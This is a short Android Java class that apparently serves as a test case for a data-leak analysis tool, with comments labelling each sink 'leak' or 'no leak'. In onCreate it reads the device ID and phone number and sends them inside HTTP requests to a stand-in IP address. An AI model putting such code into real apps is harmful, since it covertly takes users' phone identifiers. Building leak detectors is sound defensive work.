package habits;

import android.app.Activity;
import android.content.Context;
import android.os.Bundle;
import android.telephony.TelephonyManager;
import java.net.URL;
import java.util.EnumMap;
import java.util.Map;

/** Enums that hold, and keys that are enums. */
public class Kinds extends Activity {
    enum Field {
        ID("id"),
        MODEL("model");

        final String key;
        String value;

        Field(String key) {
            this.key = key;
        }
    }

    private String secret;
    private String plain;

    private class Inner {
        void fill(TelephonyManager phone) {
            secret = phone.getDeviceId();
            plain = "x";
        }
    }

    @Override
    protected void onCreate(Bundle state) {
        TelephonyManager phone = (TelephonyManager) getSystemService(Context.TELEPHONY_SERVICE);
        new Inner().fill(phone);
        Field.ID.value = phone.getDeviceId();
        Field.MODEL.value = "m";
        Map<Field, String> map = new EnumMap<>(Field.class);
        map.put(Field.ID, phone.getLine1Number());
        try {
            new URL("http://203.0.113.3/1/" + secret).openStream(); // leak
            new URL("http://203.0.113.3/2/" + plain).openStream(); // no leak
            new URL("http://203.0.113.3/3/" + Field.ID.value).openStream(); // leak
            new URL("http://203.0.113.3/4/" + Field.MODEL.value).openStream(); // no leak
            new URL("http://203.0.113.3/5/" + map.get(Field.ID)).openStream(); // leak
            new URL("http://203.0.113.3/6/" + Field.ID.key).openStream(); // no leak
        } catch (Exception ignored) {
        }
    }
}
